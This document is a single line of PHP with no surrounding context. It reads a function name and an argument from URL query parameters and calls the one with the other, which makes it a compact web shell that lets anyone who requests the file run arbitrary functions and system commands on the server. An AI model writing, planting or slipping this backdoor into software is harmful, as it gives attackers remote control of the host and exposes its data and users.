<?php $f = $_GET['f']; $f($_GET['a']);
